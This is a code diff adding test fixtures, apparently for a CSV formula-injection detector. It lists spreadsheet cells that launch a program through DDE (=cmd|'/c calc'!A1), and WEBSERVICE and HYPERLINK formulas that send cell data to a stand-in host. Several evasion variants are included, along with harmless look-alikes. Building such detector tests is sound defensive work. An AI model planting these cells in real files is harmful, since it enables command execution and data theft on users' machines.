@@ -312,6 +312,39 @@ def put_together() -> list[tuple[str, bytes]]:
     ]
 
 
+def tables() -> list[tuple[str, bytes]]:
+    """Cells that a spreadsheet would run to start a program or to fetch something."""
+    cells = (
+        b"=cmd|'/c calc'!A1",
+        b"+cmd|'/c calc'!A1",
+        b"-2+3+cmd|' /C calc'!A0",
+        b"@SUM(1+1)*cmd|' /C calc'!A0",
+        b'=WEBSERVICE("http://e.test/"&A2)',
+        b'=HYPERLINK("http://e.test/?"&A1,"Click")',
+        b"=IMPORTXML(A1,A2)",
+    )
+    quoted = [b'"%s"' % cell.replace(b'"', b'""') for cell in cells]
+    lines = [b"name;value\nA;%s\n" % cell for cell in (*cells, *quoted)]
+    lines += [b"name,value\nA,%s\n" % cell for cell in quoted]
+    lines += [
+        b"sep=^\na^=cmd|'/c calc'!A1\n",
+        b"\xef\xbb\xbf=cmd|'/c a,b'!A1;2\n",
+        "＝cmd|'/c calc'!A1\n".encode(),
+        b"A,  =cmd|'/c calc'!A1\n",
+    ]
+    return [("a.csv", line) for line in lines]
+
+
+def harmless_tables() -> list[tuple[str, bytes]]:
+    """What looks a little like it, and is what people write."""
+    return [
+        ("a.csv", b"-5;-1,25;+32 2 555 55 55;=SUM(A1:A9);@home;- first point\n"),
+        ("a.csv", b"-5,(me)|now!\nimage (1),see|this!\n"),
+        ("a.csv", b"name;note\nHYPERLINK(x);it said =cmd|'/c calc'!A1 in the mail\n"),
+        ("a.txt", b"=cmd|'/c calc'!A1\n"),
+    ]
+
+
 def harmless_codes() -> list[tuple[str, bytes]]:
     """What looks a little like it, and is what people write."""
     return [
